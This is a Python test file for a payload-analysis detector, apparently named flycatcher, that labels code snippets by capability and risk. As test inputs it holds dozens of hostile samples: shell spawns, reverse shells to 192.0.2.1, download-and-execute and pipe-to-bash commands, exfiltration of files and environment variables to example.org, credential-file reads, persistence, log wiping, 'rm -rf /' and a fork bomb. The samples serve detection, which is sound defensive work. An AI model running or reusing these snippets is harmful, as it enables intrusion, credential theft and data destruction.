"""What a payload is said to do, by language; what it must not be said to do; and the harmless shapes."""

import subprocess
import sys

import pytest

from flycatcher.core.payload import rules

from .helpers import analysis, capabilities, risk

BY_ID = {rule.id: rule for rule in rules.rules()}

SHELL_SPAWNS = [
    ("python", "import os; os.execl('/bin/sh', 'sh')"),
    ("python", "import pty; pty.spawn('/bin/bash')"),
    ("python", "__import__('o' + 's').system('/bin/sh')"),
    ("python", "getattr(__import__('os'), 'sys' + 'tem')('sh')"),
    ("python", "from os import *; system('/bin/sh')"),
    ("python", "from os import system as s; s('bash -i')"),
    ("python", "import subprocess; subprocess.call(['/bin/sh', '-p'])"),
    ("python", "import builtins; builtins.__dict__['ev' + 'al']('__import__(\"os\").system(\"sh\")')"),
    ("python", "globals()['__builtins__'].exec('import os; os.system(\"sh\")')"),
    ("python", "import threading, os; threading.Thread(target=os.system, args=('sh',)).start()"),
    ("perl", 'exec "/bin/sh";'),
    ("perl", 'exec {"/bin/sh"} "sh";'),
    ("perl", 'CORE::system("bash", "-i")'),
    ("perl", '$f = "sys" . "tem"; &$f("/bin/sh")'),
    ("perl", '&{"ex" . "ec"}("/bin/sh")'),
    ("ruby", 'exec "/bin/sh"'),
    ("ruby", "Kernel.send(:exec, '/bin/sh')"),
    ("ruby", "Object.const_get('Ker' + 'nel').system('sh')"),
    ("ruby", "method(:system).call('sh')"),
    ("ruby", "IO.popen('/bin/sh')"),
    ("javascript", "require('child_process').spawn('/bin/sh', {stdio: [0, 1, 2]})"),
    ("javascript", "const {execSync: x} = require('node:child_' + 'process'); x('bash')"),
    ("javascript", "process.mainModule.require('child_process')['spawn' + 'Sync']('sh', ['-p'])"),
    ("javascript", "import {spawn as s} from 'child_process'; s('sh')"),
    ("javascript", "(0, eval)(\"require('child_process').exec('sh')\")"),
    ("javascript", "Java.type('java.lang.Runtime').getRuntime().exec('/bin/sh')"),
    ("php", "pcntl_exec('/bin/sh', ['-p']);"),
    ("php", "$f = 'sys' . 'tem'; $f('/bin/sh');"),
    ("php", "call_user_func('passthru', '/bin/sh -i');"),
    ("php", "array_map('SYSTEM', ['sh']);"),
    ("php", "(new ReflectionFunction('system'))->invoke('sh');"),
    ("php", "`/bin/sh`;"),
    ("lua", 'os.execute("/bin/sh")'),
    ("lua", '_G["o" .. "s"]["exe" .. "cute"]("sh")'),
    ("shell", "exec /bin/bash -i"),
    ("awk", 'BEGIN {system("/bin/sh")}'),
    ("awk", 'BEGIN {print "id" | "/bin/sh"}'),
    ("tcl", "exec /bin/sh <@stdin >@stdout 2>@stderr"),
    ("expect", "spawn /bin/sh; interact"),
    ("r", 'system("/bin/sh")'),
    ("julia", "run(`/bin/sh`)"),
    ("octave", 'system("/bin/sh")'),
    ("gnuplot", 'system "/bin/sh"'),
    ("elixir", 'System.cmd("sh", [])'),
    ("erlang", 'os:cmd("/bin/sh")'),
    ("haskell", 'System.Process.callCommand "/bin/sh"'),
    ("groovy", '"/bin/sh".execute()'),
    ("emacs-lisp", '(term "/bin/sh")'),
    ("guile", '(system "/bin/sh")'),
    ("scheme", '(system* "/bin/sh" "-i")'),
    ("gdb", "!sh"),
    ("gdb", "shell /bin/sh"),
    ("gdb", 'python import os; os.system("sh")'),
    ("vim", ":!/bin/sh"),
    ("vim", ":set shell=/bin/sh|:shell"),
    ("vim", ":call system('/bin/sh')"),
    ("vim", ':lua os.execute("/bin/sh")'),
    ("sqlite", ".shell /bin/sh"),
    ("applescript", 'do shell script "/bin/sh"'),
    ("slsh", 'system("/bin/sh")'),
]


@pytest.mark.parametrize(("language", "text"), SHELL_SPAWNS)
def test_an_interactive_shell_is_found_and_high(language, text):
    assert "shell.spawn" in capabilities(text, language)
    assert risk(text, language).level in ("high", "critical")


REVERSE_SHELLS = [
    (
        "python",
        (
            "import socket, os, pty\ns = socket.socket()\ns.connect(('192.0.2.1', 4444))\n"
            "[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\npty.spawn('sh')"
        ),
    ),
    (
        "python",
        (
            "import socket, subprocess as p\nc = socket.create_connection(('192.0.2.1', 1))\n"
            "while True:\n    c.send(p.getoutput(c.recv(999).decode()).encode())"
        ),
    ),
    (
        "perl",
        (
            'use Socket; socket(S, PF_INET, SOCK_STREAM, 6); connect(S, sockaddr_in(1, inet_aton("192.0.2.1")));'
            ' open(STDIN, ">&S"); open(STDOUT, ">&S"); exec("/bin/sh -i");'
        ),
    ),
    (
        "ruby",
        'require "socket"; c = TCPSocket.new("192.0.2.1", 1); while (l = c.gets); IO.popen(l) { |o| c.print o.read }; end',
    ),
    ("ruby", 'spawn("sh", [:in, :out, :err] => TCPSocket.new("192.0.2.1", 1))'),
    (
        "javascript",
        (
            "const s = require('child_process').spawn('sh'); require('net').connect(1, '192.0.2.1', function () "
            "{ this.pipe(s.stdin); s.stdout.pipe(this) })"
        ),
    ),
    ("php", '$s = fsockopen("192.0.2.1", 1); exec("/bin/sh -i <&3 >&3 2>&3");'),
    ("php", '$s = stream_socket_client("tcp://192.0.2.1:1"); while ($l = fgets($s)) { fwrite($s, shell_exec($l)); }'),
    (
        "lua",
        (
            'local s = require("socket").tcp(); s:connect("192.0.2.1", 1); while true do local r = s:receive();'
            ' local f = assert(io.popen(r, "r")); s:send(f:read("*a")) end'
        ),
    ),
    ("shell", "bash -i >& /dev/tcp/192.0.2.1/443 0>&1"),
    ("shell", "nc -e /bin/sh 192.0.2.1 1"),
    ("tcl", 'set s [socket 192.0.2.1 1]; while 1 { gets $s c; set e "exec $c"; puts $s [eval $e] }'),
    ("julia", 'using Sockets; s = connect("192.0.2.1", 1); while true; c = split(readline(s)); run(`$c`); end'),
]


@pytest.mark.parametrize(("language", "text"), REVERSE_SHELLS)
def test_a_reverse_shell_is_put_together_from_its_parts(language, text):
    assert "network.reverse-shell" in capabilities(text, language)
    assert risk(text, language).level == "critical"


@pytest.mark.parametrize(
    ("capability", "language", "text"),
    [
        (
            "network.bind-shell",
            "javascript",
            "const s = require('child_process').spawn('sh'); require('net').createServer(c => c.pipe(s.stdin)).listen(1)",
        ),
        (
            "network.bind-shell",
            "awk",
            'BEGIN { s = "/inet/tcp/9001/0/0"; while ((s |& getline c) > 0) while ((c |& getline) > 0) print $0 |& s }',
        ),
        (
            "network.download-and-execute",
            "python",
            "import urllib.request as r; exec(r.urlopen('https://example.org/x').read())",
        ),
        ("network.download-and-execute", "ruby", "require 'open-uri'; eval(URI.open('https://example.org/x').read)"),
        ("network.download-file", "python", "import urllib.request as r; r.urlretrieve('https://example.org/x', 'y')"),
        ("network.download-file", "php", "file_put_contents('x', file_get_contents('https://example.org/x'));"),
        (
            "network.download-file",
            "javascript",
            "require('https').get('https://example.org/x', r => r.pipe(require('fs').createWriteStream('y')))",
        ),
        ("network.pipe-to-interpreter", "shell", "curl -s https://example.org/x | sudo bash"),
        ("network.pipe-to-interpreter", "shell", "bash <(curl -s https://example.org/x)"),
        ("network.cleartext", "shell", "wget http://example.org/x"),
        (
            "network.send-file",
            "python",
            "import requests; requests.post('https://example.org', data=open('/etc/hosts').read())",
        ),
        ("network.send-file", "shell", "curl -F f=@report.xml https://e.example/x"),
        ("network.send-file", "shell", "curl --form 'f=<report.xml' https://e.example/x"),
        (
            "network.send-file",
            "lua",
            'local d = io.open("x", "rb"):read("*a"); local t = require("socket").tcp(); t:connect("h", 1); t:send(d)',
        ),
        (
            "network.send-environment",
            "python",
            "import os, requests; requests.post('https://example.org', json=dict(os.environ))",
        ),
        (
            "network.send-environment",
            "javascript",
            "fetch('https://example.org', {method: 'POST', body: JSON.stringify(process.env)})",
        ),
        (
            "network.serve-files",
            "python",
            "import http.server as s, socketserver as t; t.TCPServer(('', 1), s.SimpleHTTPRequestHandler).serve_forever()",
        ),
        ("network.serve-files", "ruby", "httpd"),
        ("memory.execute", "python", "import ctypes; ctypes.CDLL(None).syscall(319, b'', 0)"),
        ("memory.execute", "python", "import os; os.memfd_create('x')"),
        ("library.load", "python", "from ctypes import cdll; cdll.LoadLibrary('/tmp/x.so')"),
        ("library.load", "ruby", "require 'fiddle'; Fiddle.dlopen('x.so')"),
        ("library.load", "tcl", "load /tmp/x.so x"),
        ("process.inject", "python", "open('/proc/' + str(99) + '/mem', 'rb')"),
        ("process.runner-memory", "shell", "pgrep -f Runner.Worker"),
        ("credentials.environment-dump", "python", "import os; print(os.environ)"),
        ("credentials.environment-dump", "javascript", "console.log(JSON.stringify(process.env))"),
        ("credentials.files", "python", "open(__import__('os').path.expanduser('~/.ssh/id_ed25519'))"),
        ("credentials.files", "shell", "cat ~/.aws/credentials"),
        ("credentials.ci-tokens", "python", "import os; os.environ['GITHUB_TOKEN']"),
        ("credentials.cloud-metadata", "shell", "curl http://169.254.169.254/latest/meta-data/"),
        ("credentials.browser", "python", "open('.config/google-chrome/Default/Login Data')"),
        ("credentials.secret-stores", "python", "import os; os.system('gh auth token')"),
        ("persistence.cron", "shell", "(crontab -l; echo '@reboot x') | crontab -"),
        ("persistence.cron", "python", "open('/etc/cron.d/x', 'w')"),
        ("persistence.service", "python", "open('/etc/systemd/system/x.service', 'w')"),
        ("persistence.profile", "shell", "echo x >> ~/.bashrc"),
        ("persistence.interpreter-hook", "python", "open('/usr/lib/python3/sitecustomize.py', 'w')"),
        ("persistence.git-hook", "shell", "git config core.hooksPath /tmp/h"),
        ("persistence.ssh-key", "shell", "echo ssh-ed25519 A >> /root/.ssh/authorized_keys"),
        ("persistence.account", "shell", "useradd -o -u 0 x"),
        ("persistence.package-config", "shell", "npm config set registry https://example.org"),
        ("privilege.setuid", "perl", "use POSIX qw(setuid); setuid(0)"),
        ("privilege.setuid-bit", "python", "import os; os.chmod('/tmp/x', 0o4755)"),
        ("privilege.setuid-bit", "shell", "chmod u+s /tmp/x"),
        ("privilege.sudoers", "shell", "echo 'x ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers"),
        ("privilege.container-escape", "shell", "nsenter -t 1 -m sh"),
        ("evasion.history", "shell", "unset HISTFILE"),
        ("evasion.logs", "shell", "rm /var/log/auth.log"),
        ("evasion.preload", "python", "import os; os.environ['LD_PRELOAD'] = '/tmp/x.so'"),
        ("evasion.timestomp", "python", "import os; os.utime('x', (1, 1))"),
        ("evasion.rename-process", "perl", '$0 = "[kworker]"'),
        ("evasion.disable-security", "shell", "systemctl stop auditd"),
        ("evasion.self-delete", "javascript", "require('fs').unlinkSync(__filename)"),
        ("discovery.network", "shell", "nmap -sS 192.0.2.0/24"),
        ("file.executable", "python", "import os; os.chmod('/tmp/x', 0o755)"),
        ("file.destroy", "shell", "rm -rf /"),
        ("file.encrypt", "shell", "openssl enc -aes-256-cbc -in a -out b"),
        ("ci.poison-environment", "shell", 'echo "A=b" >> "$GITHUB_ENV"'),
        ("ci.workflow-file", "python", "open('.github/workflows/ci.yml', 'a')"),
        ("ci.publish", "shell", "npm publish --access public"),
        ("ci.push", "shell", "git push origin main"),
        ("impact.mining", "shell", "./x -o stratum+tcp://example.org:1"),
        ("impact.fork-bomb", "shell", ":(){ :|:& };:"),
        ("eval.deserialise", "python", "import pickle; pickle.loads(b'x')"),
        ("process.spawn-file", "php", "echo shell_exec('/tmp/x');"),
        ("process.unknown-command", "php", "popen(getenv('CMD'), 'r');"),
        ("process.remote-command", "php", "system($_GET['c']);"),
    ],
)
def test_a_capability_is_found(capability, language, text):
    assert capability in capabilities(text, language)


@pytest.mark.parametrize(
    ("absent", "language", "text"),
    [
        ("process.spawn", "python", "print('os.system(\"sh\")')"),
        ("process.spawn", "python", "# os.system('sh')\nprint(1)"),
        ("process.spawn", "python", "class os:\n    pass\ndef system(x):\n    return x\nsystem('sh')"),
        ("shell.spawn", "perl", "print 'exec /bin/sh'"),
        ("shell.spawn", "awk", '{ print "system" }'),
        ("file.write", "awk", "$1 > 5 { print $2 }"),
        ("credentials.environment-dump", "python", "import os; print(os.environ['PATH'])"),
        ("credentials.environment-dump", "javascript", "console.log(process.env.HOME)"),
        ("network.cleartext", "python", "print('http://localhost:8080/')"),
        ("network.send-file", "shell", "curl -F token=$COVERITY_TOKEN https://e.example/x"),
        ("network.send-file", "shell", "curl --form a=b https://e.example/x"),
        ("library.load", "python", "import ctypes; ctypes.CDLL('libc.so.6')"),
        ("persistence.cron", "perl", "`crontab -l`"),
        ("shell.spawn", "python", "import os; os.system('sh build.sh')"),
        ("eval.decoded", "python", "import base64; print(base64.b64decode('aGk='))"),
    ],
)
def test_what_is_only_mentioned_does_not_count(absent, language, text):
    assert absent not in capabilities(text, language)


@pytest.mark.parametrize(
    ("text", "shape"),
    [
        ("import sys; print(sys.version)", "pure computation printed to stdout"),
        ("import sys; print('.'.join(map(str, sys.version_info[:2])))", "pure computation printed to stdout"),
        ("import sysconfig; print(sysconfig.get_path('stdlib'))", "pure computation printed to stdout"),
        ("import json, sys; print(json.load(sys.stdin)['a'])", "pure computation printed to stdout"),
        ("import numpy", "import probe"),
        ("1 + 1", "constant expression"),
        ("import sys; print(sys.version); import os; os.system('true')", ""),
        ("import sys; print(sys.version); open('x', 'w')", ""),
        ("print(sys.version", ""),
        ("import sys; print(sys.version); something.unheard_of()", ""),
    ],
)
def test_harmless_shapes_are_recognised_by_structure_alone(text, shape):
    assert analysis(text).shape == shape


def test_evidence_quotes_the_place_in_its_layer():
    found = analysis("import os  # é\nos.system('id')\n")
    (spawn,) = [c for c in found.capabilities if c.id == "process.spawn"]
    assert spawn.technique == "T1059"
    assert [(e.layer, e.span, e.quote) for e in spawn.evidence] == [(0, (15, 30), "os.system('id')")]


def test_every_rule_is_well_formed():
    ids = [rule.id for rule in rules.rules()]
    assert len(ids) == len(set(ids)) >= 60
    for rule in rules.rules():
        assert rule.technique.startswith("T"), rule.id
        assert 0 < rule.points <= 100, rule.id
        assert set(rule.covers) <= set(ids), rule.id
        assert {part for together in rule.needs for part in together} <= set(ids), rule.id
        assert not rule.values or rule.hints, rule.id


def test_what_a_rule_covers_never_weighs_more_than_the_rule():
    for rule in rules.rules():
        assert sum(BY_ID[part].points for part in rule.covers) <= rule.points, rule.id


def test_a_file_is_found_by_every_name_that_its_rule_looks_for():
    assert [rule.id for rule in rules.rules() if rules.named(rule.id) is not rule] == []
    for rule in rules.rules():
        for language, calls in rule.calls.items():
            found = rules.Index(language, any_case=False)
            missed = [
                name for one in calls for name in one.names.split()[:90] if (rule, one.when) not in found.calls(name)
            ]
            assert missed == [], rule.id
        for language, names in rule.uses.items():
            found = rules.Index(language, any_case=False)
            assert [name for name in names.split() if rule not in found.uses(name)] == [], rule.id


def test_an_index_answers_the_same_before_and_after_it_has_loaded_everything():
    early, late = rules.Index("powershell", any_case=True), rules.Index("powershell", any_case=True)
    for number in range(rules.EAGER):
        late.calls(f"nothing{number}")
    names = {n.lower() for rule in rules.rules() for one in rule.calls.get("powershell", ()) for n in one.names.split()}
    assert len(names) > 10
    assert [early.calls(name) for name in sorted(names)[:90]] == [late.calls(name) for name in sorted(names)[:90]]


def test_only_the_files_that_hold_a_name_of_the_text_are_loaded():
    code = (
        "import sys; from flycatcher.core.payload import analyse; from flycatcher.core.snippet import Snippet\n"
        "analyse(Snippet(interpreter='python', language='python', vector='argument', text='print(1)'))\n"
        "print(*(name for name in sys.modules if name.startswith('flycatcher.')))"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    loaded = done.stdout.split()
    assert sum(name.startswith("flycatcher.core.payload.capabilities.") for name in loaded) < 15 < len(rules.rules())
    assert [
        name
        for name in loaded
        if name.startswith(("flycatcher.core.shell", "flycatcher.core.payload.languages.ruby.language"))
    ] == []
